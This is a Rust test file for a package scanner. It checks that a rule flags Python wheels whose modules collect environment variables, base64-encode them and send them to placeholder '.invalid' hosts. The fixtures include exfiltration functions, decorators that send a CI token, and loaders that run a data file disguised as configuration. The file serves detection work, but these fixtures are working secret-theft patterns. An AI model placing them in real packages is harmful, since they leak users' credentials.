//! The archive walk with the real Python analysis: what needs more than one member (M1 across
//! modules, RT13-02) or a second look at a member (source a loader runs, RT13-03).

use std::io::Write;
use std::path::{Path, PathBuf};

use zip::write::SimpleFileOptions;

use super::*;

fn wheel(dir: &Path, members: &[(&str, &str)]) -> PathBuf {
    let path = dir.join("evmod-1.0-py3-none-any.whl");
    let file = std::fs::File::create(&path).expect("create");
    let mut z = zip::ZipWriter::new(file);
    for (name, data) in members {
        z.start_file(*name, SimpleFileOptions::default())
            .expect("start");
        z.write_all(data.as_bytes()).expect("write");
    }
    z.finish().expect("finish");
    path
}

fn scan(members: &[(&str, &str)]) -> ArchiveScan {
    let dir = tempfile::tempdir().expect("tmp");
    let path = wheel(dir.path(), members);
    scan_archive(&path, ArchiveKind::Wheel, &ScanLimits::default()).expect("scan")
}

fn m1(scan: &ArchiveScan) -> Option<&Finding> {
    scan.findings
        .iter()
        .find(|f| f.rule == Rule::EnvExfiltration)
}

const A: &str = "import os\ndef collect():\n    return ' '.join(os.environ.values())\n";
const B: &str = "import base64\ndef enc(s):\n    return base64.b64encode(s.encode()).decode()\n";
const C: &str = "import requests\ndef send(d):\n    requests.get('https://x.invalid/?q=' + d)\n";

#[test]
fn environment_collected_encoded_and_sent_by_three_modules_is_m1() {
    let s = scan(&[
        ("evmod/a.py", A),
        ("evmod/b.py", B),
        ("evmod/c.py", C),
        (
            "evmod/__init__.py",
            "from .a import collect\nfrom . import b\nfrom evmod.c import send\nsend(b.enc(collect()))\n",
        ),
    ]);
    let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
    assert_eq!(f.severity, Severity::High, "{f:#?}");
    assert_eq!(f.path, "evmod/__init__.py");
    assert_eq!(f.line, Some(4));
    assert_eq!(f.snippet, "send(b.enc(collect()))");
}

#[test]
fn one_environment_value_sent_by_another_module_is_medium() {
    let s = scan(&[
        ("evmod/c.py", C),
        (
            "evmod/__init__.py",
            "import os\nfrom .c import send\nsend(os.environ.get('TOKEN'))\n",
        ),
    ]);
    let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
    assert_eq!(f.severity, Severity::Medium, "{f:#?}");
}

#[test]
fn modules_that_do_not_pass_environment_data_are_quiet() {
    let s = scan(&[
        ("evmod/a.py", A),
        ("evmod/c.py", C),
        (
            "evmod/__init__.py",
            "from .a import collect\nfrom .c import send\nprint(collect())\nsend('hello')\n",
        ),
    ]);
    assert!(m1(&s).is_none(), "{:#?}", s.findings);
}

#[test]
fn a_member_a_loader_runs_is_read_as_python() {
    let payload = "import os, base64, requests\ns = ' '.join(os.environ.values())\nrequests.get('https://x.invalid/?q=' + base64.b64encode(s.encode()).decode())\n";
    for loader in [
        "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'cfg.dat'))\n",
        "import os\nfrom importlib.machinery import SourceFileLoader\np = os.path.join(os.path.dirname(__file__), 'cfg.dat')\nSourceFileLoader('cfg', p).load_module()\n",
    ] {
        // The data member comes first: the walk must come back to it.
        let s = scan(&[("evmod/cfg.dat", payload), ("evmod/__init__.py", loader)]);
        let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
        assert_eq!(
            (f.path.as_str(), f.severity),
            ("evmod/cfg.dat", Severity::High)
        );
        assert!(
            s.capabilities["evmod/__init__.py"].contains(&Capability::DynamicCode),
            "{:?}",
            s.capabilities
        );
    }
    // A data file nothing loads stays data.
    let s = scan(&[("evmod/cfg.dat", payload), ("evmod/__init__.py", "x = 1\n")]);
    assert!(m1(&s).is_none(), "{:#?}", s.findings);
}

#[test]
fn imported_names_glued_in_init_is_m1() {
    let s = scan(&[
        ("evmod/a.py", A),
        ("evmod/b.py", B),
        ("evmod/c.py", C),
        (
            "evmod/__init__.py",
            "from .a import collect\nfrom .b import enc\nfrom .c import send\n\nsend(enc(collect()))\n",
        ),
    ]);
    let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
    assert_eq!(f.severity, Severity::High, "{f:#?}");
    assert_eq!(f.line, Some(5));
}

/// `gather` returns what `collect` (another module) returns.
const D: &str = "from .a import collect\ndef gather():\n    return collect()\n";
/// `forward` passes its parameter to `send` (another module).
const E: &str = "from .c import send\ndef forward(x):\n    send(x)\n";

#[test]
fn returns_carried_through_a_second_module_are_m1() {
    let s = scan(&[
        ("evmod/a.py", A),
        ("evmod/c.py", C),
        ("evmod/d.py", D),
        (
            "evmod/__init__.py",
            "from .d import gather\nfrom .c import send\nsend(gather())\n",
        ),
    ]);
    let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
    assert_eq!((f.severity, f.line), (Severity::High, Some(3)), "{f:#?}");
}

#[test]
fn a_parameter_forwarded_to_another_module_s_sender_is_m1() {
    let s = scan(&[
        ("evmod/a.py", A),
        ("evmod/c.py", C),
        ("evmod/e.py", E),
        (
            "evmod/__init__.py",
            "from .a import collect\nfrom .e import forward\nforward(collect())\n",
        ),
    ]);
    let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
    assert_eq!(f.severity, Severity::High, "{f:#?}");
    assert_eq!(f.snippet, "forward(collect())");
}

#[test]
fn four_steps_over_five_modules_and_a_local_name_are_m1() {
    // collect → gather → gather2, and forward2 → forward → send, joined through a name.
    let s = scan(&[
        ("evmod/a.py", A),
        ("evmod/c.py", C),
        ("evmod/d.py", D),
        ("evmod/e.py", E),
        (
            "evmod/f.py",
            "from .d import gather\nfrom .e import forward\ndef gather2():\n    data = gather()\n    return data\ndef forward2(v, w):\n    forward(w)\n",
        ),
        (
            "evmod/__init__.py",
            "from .f import gather2, forward2\nblob = gather2()\nforward2('x', blob)\n",
        ),
    ]);
    let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
    assert_eq!(f.severity, Severity::High, "{f:#?}");
    assert_eq!(f.path, "evmod/__init__.py");
    assert_eq!(f.snippet, "forward2('x', blob)");
}

#[test]
fn forwarding_something_else_or_to_another_parameter_is_quiet() {
    // `forward` sends a constant, not its parameter; `forward2` sends its first parameter and
    // the environment goes in the second.
    let s = scan(&[
        ("evmod/a.py", A),
        ("evmod/c.py", C),
        (
            "evmod/e.py",
            "from .c import send\ndef forward(x):\n    send('hello')\ndef forward2(v, w):\n    send(v)\n",
        ),
        (
            "evmod/__init__.py",
            "from .a import collect\nfrom .e import forward, forward2\nforward(collect())\nforward2('x', collect())\n",
        ),
    ]);
    assert!(m1(&s).is_none(), "{:#?}", s.findings);
}

#[test]
fn a_flow_inside_one_file_is_reported_once() {
    let one = "import os, base64, requests\nfrom .c import helper\ndef collect():\n    return ' '.join(os.environ.values())\ndef send(d):\n    requests.get('https://x.invalid/?q=' + d)\nsend(collect())\n";
    let s = scan(&[
        ("evmod/c.py", "def helper():\n    return 1\n"),
        ("evmod/__init__.py", one),
    ]);
    let n = s
        .findings
        .iter()
        .filter(|f| f.rule == Rule::EnvExfiltration)
        .count();
    assert_eq!(n, 1, "{:#?}", s.findings);
}

/// A decorator that sends what the function it wraps returns, in a module of its own.
const TELE: &str = r#"import base64, requests
def report(fn):
    def wrapper(*a, **kw):
        r = fn(*a, **kw)
        requests.post("https://collector.invalid/r", data=r, timeout=3)
        return r
    return wrapper

def telemetry(url):
    def deco(fn):
        def wrapper():
            out = fn()
            requests.get(url + base64.b64encode(str(out).encode()).decode())
            return out
        return wrapper
    return deco

def timed(fn):
    def wrapper(*a):
        r = fn(*a)
        requests.post("https://metrics.invalid/", json={"ok": True})
        return r
    return wrapper
"#;

fn m1s(scan: &ArchiveScan) -> Vec<&Finding> {
    scan.findings
        .iter()
        .filter(|f| f.rule == Rule::EnvExfiltration)
        .collect()
}

#[test]
fn a_decorator_imported_from_another_module_that_sends_the_environment_is_m1() {
    // By name, imported by name.
    let s = scan(&[
        ("evmod/tele.py", TELE),
        (
            "evmod/__init__.py",
            "import os\nfrom .tele import report\n\n@report\ndef collect():\n    return dict(os.environ)\n",
        ),
    ]);
    let f = m1s(&s);
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(
        (
            f[0].severity,
            f[0].path.as_str(),
            f[0].line,
            f[0].snippet.as_str()
        ),
        (Severity::High, "evmod/__init__.py", Some(4), "@report")
    );
    assert!(f[0].message.contains("evmod.tele.report"), "{f:#?}");
    // A factory called through its module, with one named value: medium.
    let s = scan(&[
        ("evmod/tele.py", TELE),
        (
            "evmod/__init__.py",
            "import os\nfrom evmod import tele\n\n@tele.telemetry('https://t.invalid/?d=')\ndef token():\n    return os.environ.get('CI_JOB_TOKEN')\n",
        ),
    ]);
    let f = m1s(&s);
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!((f[0].severity, f[0].line), (Severity::Medium, Some(4)));
}

#[test]
fn a_decorated_function_returning_another_module_s_environment_is_m1() {
    // The decorator is the file's own; what the function returns comes from `a.py`.
    let s = scan(&[
        ("evmod/a.py", A),
        (
            "evmod/__init__.py",
            "import requests\nfrom .a import collect\ndef report(fn):\n    requests.post('https://x.invalid/', data=fn())\n    return fn\n\n@report\ndef gather():\n    return collect()\n",
        ),
    ]);
    let f = m1s(&s);
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!((f[0].severity, f[0].line), (Severity::High, Some(7)));
    // Both in other modules: the decorator in `tele.py`, the environment in `a.py`.
    let s = scan(&[
        ("evmod/a.py", A),
        ("evmod/tele.py", TELE),
        (
            "evmod/__init__.py",
            "from .a import collect\nfrom .tele import report\n@report\ndef gather():\n    return collect()\n",
        ),
    ]);
    assert_eq!(m1s(&s).len(), 1, "{:#?}", s.findings);
}

#[test]
fn imported_decorators_that_send_other_things_or_wrap_no_environment_are_quiet() {
    let s = scan(&[
        ("evmod/tele.py", TELE),
        (
            "evmod/__init__.py",
            "import os\nfrom .tele import timed, report, telemetry\n\n@timed\ndef home():\n    return os.environ.get('HOME')\n\n@report\ndef compute(x):\n    return x * 2\n\n@telemetry\ndef wrong_form():\n    return dict(os.environ)\n",
        ),
    ]);
    // `@telemetry` used by name makes a decorator that sends nothing: not M1 either.
    assert!(m1s(&s).is_empty(), "{:#?}", s.findings);
    // A decorator of the same name in a module that is not the package's own is not followed.
    let s = scan(&[(
        "evmod/__init__.py",
        "import os\nfrom otherlib.tele import report\n@report\ndef collect():\n    return dict(os.environ)\n",
    )]);
    assert!(m1s(&s).is_empty(), "{:#?}", s.findings);
}

#[test]
fn a_decorator_finding_the_package_pass_makes_graver_is_one_finding() {
    // The file alone sees one named value returned (medium); with `a.py`, the whole
    // environment (high): one finding at the decorator, high.
    let s = scan(&[
        ("evmod/a.py", A),
        (
            "evmod/__init__.py",
            "import os, requests\nfrom .a import collect\ndef report(fn):\n    requests.post('https://x.invalid/', data=fn())\n    return fn\n\n@report\ndef gather():\n    if os.environ.get('X'):\n        return os.environ.get('TOKEN')\n    return collect()\n",
        ),
    ]);
    let f = m1s(&s);
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!((f[0].severity, f[0].line), (Severity::High, Some(7)));
}
